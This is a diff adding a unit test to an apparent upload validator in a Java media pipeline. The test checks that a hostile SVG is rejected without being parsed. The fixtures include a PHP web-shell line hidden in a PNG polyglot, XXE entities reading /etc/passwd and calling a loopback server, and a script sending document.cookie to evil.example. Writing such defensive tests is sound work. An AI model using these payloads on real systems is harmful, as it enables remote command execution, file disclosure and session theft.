@@ -1,6 +1,7 @@
 package dev.mediapipeline.processors.validate;
 
 import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThatThrownBy;
 import static org.assertj.core.api.Assertions.catchThrowableOfType;
 
 import dev.mediapipeline.core.error.RejectedException;
@@ -195,6 +196,29 @@ class ValidateProcessorTest {
         byte[] script = "\n\n<?php system($_GET['c']); ?>".getBytes();
         System.arraycopy(script, 0, polyglot, png.length, script.length);
         assertThat(rejection(Files.write(dir.resolve("avatar.png"), polyglot)).reason()).isEqualTo("trailing-data");
+    }
+
+    @Test
+    void anSvgWithScriptAndExternalEntitiesIsRefusedUnread(@TempDir Path dir) throws Exception {
+        // an entity that, if any XML parser resolved it, would fetch from this loopback server
+        try (java.net.ServerSocket listener = new java.net.ServerSocket(0, 50, java.net.InetAddress.getLoopbackAddress())) {
+            listener.setSoTimeout(1);
+            String svg = """
+                    <?xml version="1.0"?>
+                    <!DOCTYPE svg [<!ENTITY xxe SYSTEM "http://127.0.0.1:%d/secret"> <!ENTITY file SYSTEM "file:///etc/passwd">]>
+                    <svg xmlns="http://www.w3.org/2000/svg" width="100" height="100" onload="alert(1)">
+                      <script>fetch('https://evil.example/' + document.cookie)</script>
+                      <text>&xxe;&file;</text>
+                    </svg>
+                    """.formatted(listener.getLocalPort());
+            for (String name : List.of("avatar.svg", "avatar.jpg", "avatar.png")) {
+                RejectedException refused = rejection(Files.writeString(dir.resolve(name), svg));
+                assertThat(refused.reason()).as(name).isEqualTo("type-not-allowed");
+                assertThat(refused.getMessage()).as(name).contains("svg");
+            }
+            // the validation has returned: had it resolved the entity, the connection would be waiting in the backlog
+            assertThatThrownBy(listener::accept).as("nothing connected to the entity's server").isInstanceOf(java.net.SocketTimeoutException.class);
+        }
     }
 
     @Test
